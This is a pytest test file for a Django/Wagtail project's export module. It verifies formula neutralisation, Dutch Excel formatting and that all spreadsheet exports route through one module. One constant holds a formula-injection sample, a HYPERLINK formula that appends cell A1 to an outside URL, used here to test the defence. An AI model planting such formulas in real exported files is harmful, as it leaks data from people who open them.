"""core.exports: every CSV and Excel file neutralises formulas and opens in Dutch Excel,
and no export of the project goes around it."""

import csv
import datetime
import inspect
import io
import re
import sys
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.conf import settings
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from core import exports

UTC = datetime.UTC
AMSTERDAM = ZoneInfo("Europe/Amsterdam")
FORMULA = '=HYPERLINK("https://example.org/?"&A1;"Klik")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_would_run_as_a_formula_gets_an_apostrophe(start):
    assert exports.neutralise(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["Vera de Vries", "'s-Hertogenbosch", "Welzijn 2-3", ""])
def test_ordinary_text_stays_as_it_is(text):
    assert exports.neutralise(text) == text


def test_control_characters_cannot_hide_a_formula():
    assert exports.neutralise("\x00\x01=1+1") == "'=1+1"


HEADINGS = ["Naam", "Ingeschreven op", "Datum", "Punten", "Aanwezig", "Leeg"]
ROW = [
    FORMULA,
    datetime.datetime(2025, 7, 1, 12, 30, 45, 123456, tzinfo=UTC),  # 14:30 in Amsterdam
    datetime.date(2025, 3, 9),
    Decimal("1.5"),
    True,
    None,
]


def test_csv_for_dutch_excel():
    response = exports.spreadsheet_response(
        headings=HEADINGS, rows=[ROW], filename="proef-10-03-2025"
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="proef-10-03-2025.csv"'
    assert response.content.startswith(b"\xef\xbb\xbfNaam;Ingeschreven op;")
    text = response.content.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text), delimiter=";")) == [
        HEADINGS,
        ["'" + FORMULA, "01-07-2025 14:30", "09-03-2025", "1,5", "ja", ""],
    ]


def test_excel_with_real_dates_in_dutch_time():
    response = exports.spreadsheet_response(
        headings=HEADINGS, rows=[ROW], filename="proef", file_format="xlsx"
    )
    assert response["Content-Disposition"] == 'attachment; filename="proef.xlsx"'
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    name, registered, day, points, present, empty = sheet[2]
    assert (name.value, name.data_type) == ("'" + FORMULA, "s")
    assert registered.value == datetime.datetime(2025, 7, 1, 14, 30, 45)
    assert registered.number_format == "dd-mm-yyyy hh:mm"
    assert day.value == datetime.datetime(2025, 3, 9)  # Excel keeps dates as date-times
    assert day.number_format == "dd-mm-yyyy"
    assert (points.value, present.value, empty.value) == (1.5, "ja", None)
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"


@time_machine.travel(datetime.datetime(2025, 3, 10, 23, 30, tzinfo=UTC), tick=False)
def test_file_name_says_what_and_which_day_in_dutch_time():
    assert exports.spreadsheet_filename("voortgang", "Leergang Één") == (
        "voortgang-leergang-een-11-03-2025"
    )
    assert exports.spreadsheet_filename("afspraken", on=datetime.date(2025, 1, 2)) == (
        "afspraken-02-01-2025"
    )


# ---------------------------------------------------------------------------
# Nothing goes around core.exports, today or later
# ---------------------------------------------------------------------------

# What writes a CSV or Excel file: an import of a module that does, a content type or
# a file name of one.
WRITERS = r"(?:csv|openpyxl|xlsxwriter|xlwt|tablib|odf|pandas)\b"
SPREADSHEET_CODE = re.compile(
    rf"^\s*(?:from\s+{WRITERS}|import\s+(?:[\w.]+\s*,\s*)*{WRITERS})"
    r"|text/csv|application/csv|spreadsheetml|ms-excel|opendocument\.spreadsheet"
    r"|\.(?:csv|xlsx|xls|ods)\b",
    re.MULTILINE,
)
BASE_DIR = Path(settings.BASE_DIR)
OUR_CODE = [
    path.relative_to(BASE_DIR)
    for folder in BASE_DIR.iterdir()
    if folder.is_dir() and not folder.name.startswith(".") and folder.name != "var"
    for path in folder.rglob("*.py")
    if not {"tests", "migrations"} & set(path.relative_to(BASE_DIR).parts)
]
# Code that reads CSV files and writes none: the monitor's import of CBS tables.
READERS = {"monitor/services.py"}


def test_only_core_exports_writes_spreadsheets_in_our_code():
    assert len(OUR_CODE) > 50  # the scan sees the apps
    writers = {
        str(path) for path in OUR_CODE if SPREADSHEET_CODE.search((BASE_DIR / path).read_text())
    } - READERS
    assert writers == {"core/exports.py"}, "write CSV and Excel through core.exports"


def url_patterns(resolver: URLResolver, prefix: str = "") -> Iterator[tuple[str, URLPattern]]:
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            yield from url_patterns(pattern, prefix + str(pattern.pattern))
        else:
            yield prefix + str(pattern.pattern), pattern


def defining_modules(view) -> set[str]:
    """The modules whose code runs for a view: its function's, or its class's and bases'."""
    view_class = getattr(view, "view_class", None)
    owners = view_class.__mro__ if view_class else [inspect.unwrap(view)]
    return {owner.__module__ for owner in owners if owner.__module__ != "builtins"}


def writes_spreadsheets(module_name: str) -> bool:
    source_file = getattr(sys.modules[module_name], "__file__", None)
    return source_file is not None and bool(SPREADSHEET_CODE.search(Path(source_file).read_text()))


@pytest.mark.django_db
def test_every_export_view_of_the_project_writes_through_core_exports(
    client: Client, django_user_model
):
    """Walks every URL pattern. A view whose code (or a base class's) can write CSV or
    Excel must be one of Wagtail's listings or reports, whose writer is core's; each that
    can export now is downloaded in both formats and must come out as core writes."""
    export_views: dict[str, type] = {}
    for route, pattern in url_patterns(get_resolver()):
        writers = {m for m in defining_modules(pattern.callback) if writes_spreadsheets(m)}
        assert writers <= {"core.exports", SpreadsheetExportMixin.__module__}, route
        view_class = getattr(pattern.callback, "view_class", None)
        if view_class and issubclass(view_class, SpreadsheetExportMixin):
            assert view_class.as_spreadsheet is exports.wagtail_as_spreadsheet, route
            initkwargs = pattern.callback.view_initkwargs  # type: ignore[attr-defined]
            if initkwargs.get("list_export", view_class.list_export):
                export_views[route] = view_class
    assert "beheer/inschrijvingen/" in export_views  # the walk sees the exports
    assert "beheer/reports/site-history/" in export_views

    client.force_login(django_user_model.objects.create_superuser("editor", "e@example.org", "x"))
    for route in (route for route in export_views if "<" not in route):
        url = "/" + route
        response = client.get(url, {"export": "csv"})
        assert response.status_code == 200, url
        assert response["Content-Type"] == "text/csv; charset=utf-8", url
        heading = response.getvalue().decode("utf-8").splitlines()[0]
        assert heading.startswith("\ufeff") and ";" in heading, url
        response = client.get(url, {"export": "xlsx"})
        sheet = load_workbook(io.BytesIO(response.getvalue())).active
        assert sheet is not None and sheet.freeze_panes == "A2", url
